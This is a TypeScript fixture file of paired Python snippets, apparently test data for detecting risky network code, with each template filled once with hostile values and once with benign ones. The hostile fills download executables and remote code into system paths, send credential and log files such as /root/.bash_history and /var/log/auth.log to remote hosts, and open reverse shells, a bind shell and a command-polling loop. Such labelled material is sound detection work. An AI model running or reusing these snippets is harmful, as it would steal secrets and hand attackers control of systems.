import type { Pair } from './pair.ts';

/** What is taken from the network, sent away, or done for whoever is on the other side: other libraries, other hosts. */
export const PYTHON_NETWORK: readonly Pair[] = [
  // Taking something from the network.
  [
    'fetch-httpx',
    `
import httpx

def load(address):
    with httpx.Client(follow_redirects=True) as client:
        return client.get(address).text

print(load("§0"))`,
    ['http://malware-samples.example.net/ransomware.html'],
    ['https://www.example.com/about.html'],
  ],
  [
    'fetch-aiohttp',
    `
import asyncio
import aiohttp

async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("§0") as reply:
            print(await reply.text())

asyncio.run(main())`,
    ['http://phishing-login.example.org/bank'],
    ['https://docs.example.com/start'],
  ],
  [
    'fetch-urlretrieve',
    `
from urllib.request import urlretrieve

urlretrieve("§0", "§1")
print("done")`,
    ['http://files.example.net/setup_helper.sh', '/opt/setup_helper.sh'],
    ['https://files.example.com/table.csv', 'table.csv'],
  ],
  [
    'fetch-bytes',
    `
import http.client

link = http.client.HTTPConnection("§0", §1)
link.request("GET", "/§2")
print(link.getresponse().read())`,
    ['203.0.113.77', '8081', 'payload.bin'],
    ['localhost', '8000', 'health'],
  ],
  [
    'fetch-stream',
    `
import requests

address = "§0"
with requests.get(address, stream=True, timeout=20) as reply:
    with open("§1", "wb") as out:
        for part in reply.iter_content(8192):
            out.write(part)`,
    ['https://cdn.example.top/update.exe', '/usr/bin/update'],
    ['https://data.example.com/cities.json', 'cities.json'],
  ],
  [
    'fetch-wget-module',
    `
import wget

name = wget.download("§0", out="§1")
print(name)`,
    ['http://downloads.example.net/agent.py', '/bin/agent.py'],
    ['https://downloads.example.com/photo.png', 'photo.png'],
  ],
  [
    'fetch-and-import',
    `
import importlib.util
import urllib.request

source = urllib.request.urlopen("§0").read()
with open("§1", "wb") as handle:
    handle.write(source)
§2`,
    [
      'https://code.example.net/helper.py',
      'helper.py',
      'spec = importlib.util.spec_from_file_location("helper", "helper.py")\nmodule = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(module)',
    ],
    ['https://data.example.com/helper.json', 'helper.json', 'print(len(source))'],
  ],
  [
    'fetch-by-curl',
    `
import subprocess

result = subprocess.run(["curl", "-s", "-o", "§1", "§0"], check=False)
print(result.returncode)`,
    ['http://tools.example.net/rootkit.sh', '/usr/sbin/helper.sh'],
    ['https://tools.example.com/list.txt', 'list.txt'],
  ],
  [
    'fetch-list',
    `
import urllib.request

for address in ["§0", "§1"]:
    with urllib.request.urlopen(address) as reply:
        print(address, len(reply.read()))`,
    ['http://198.51.100.5/a.html', 'http://198.51.100.6/b.html'],
    ['https://www.example.com/a.html', 'https://www.example.org/b.html'],
  ],
  [
    'fetch-shortened',
    `
import webbrowser

webbrowser.open("§0")`,
    ['https://tinyurl.com/free-gift-x'],
    ['https://www.example.com/help'],
  ],
  // Sending something away.
  [
    'send-multipart',
    `
import requests

path = "§0"
reply = requests.post("§1", files={"upload": ("a.txt", open(path, "rb"))})
print(reply.status_code)`,
    ['/etc/group', 'http://127.0.0.1:8099/in'],
    ['report.txt', 'http://127.0.0.1:8099/in'],
  ],
  [
    'send-socket',
    `
import socket

with open("§0", "rb") as handle:
    content = handle.read()
line = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
line.connect(("§1", 6001))
line.sendall(content)
line.close()`,
    ['/etc/ssh/sshd_config', '127.0.0.1'],
    ['notes.txt', '127.0.0.1'],
  ],
  [
    'send-ftp',
    `
from ftplib import FTP

server = FTP("§0")
server.login("§1", "anonymous@")
with open("§2", "rb") as handle:
    server.storbinary("STOR backup", handle)
server.quit()`,
    ['203.0.113.80', 'anonymous', '/etc/fstab'],
    ['localhost', 'anonymous', 'draft.txt'],
  ],
  [
    'send-encoded',
    `
import base64
import urllib.parse
import urllib.request

text = open("§0").read()
body = urllib.parse.urlencode({"d": base64.b64encode(text.encode()).decode()}).encode()
urllib.request.urlopen("http://127.0.0.1:9000/c", body)`,
    ['/root/.bash_history'],
    ['todo.txt'],
  ],
  [
    'send-log',
    `
import json
import http.client

lines = []
with open("§0") as handle:
    for line in handle:
        lines.append(line.rstrip())
link = http.client.HTTPConnection("127.0.0.1", 5000)
link.request("POST", "/logs", json.dumps(lines), {"Content-Type": "application/json"})`,
    ['/var/log/auth.log'],
    ['build.log'],
  ],
  // Remote control.
  [
    'shell-loop-popen',
    `
import os
import socket

server = socket.create_connection(("§0", 4001))
server.send(b"ready\\n")
while True:
    order = server.recv(2048).decode().strip()
    if order in ("", "quit"):
        break
    §1
server.close()`,
    ['127.0.0.1', 'server.send(os.popen(order).read().encode())'],
    ['127.0.0.1', 'server.send(order[::-1].encode())'],
  ],
  [
    'bind-shell',
    `
import socket
import subprocess

server = socket.socket()
server.bind(("§0", 4444))
server.listen(1)
peer, _ = server.accept()
while data := peer.recv(1024):
    §1`,
    ['0.0.0.0', 'peer.send(subprocess.getoutput(data.decode()).encode())'],
    ['127.0.0.1', 'peer.send(data)'],
  ],
  [
    'polling-control',
    `
import subprocess
import time
import requests

while True:
    job = requests.get("§0/next").json()
    if job.get("stop"):
        break
    §1
    time.sleep(30)`,
    ['http://127.0.0.1:5050', 'subprocess.run(job["command"], shell=True)'],
    ['http://127.0.0.1:5050', 'print(job["title"])'],
  ],
  [
    'asyncio-shell',
    `
import asyncio

async def main():
    reader, writer = await asyncio.open_connection("§0", 7777)
    while line := await reader.readline():
        §1

asyncio.run(main())`,
    [
      '127.0.0.1',
      'process = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await process.communicate()\n        writer.write(out)',
    ],
    ['127.0.0.1', 'writer.write(line.upper())'],
  ],
];
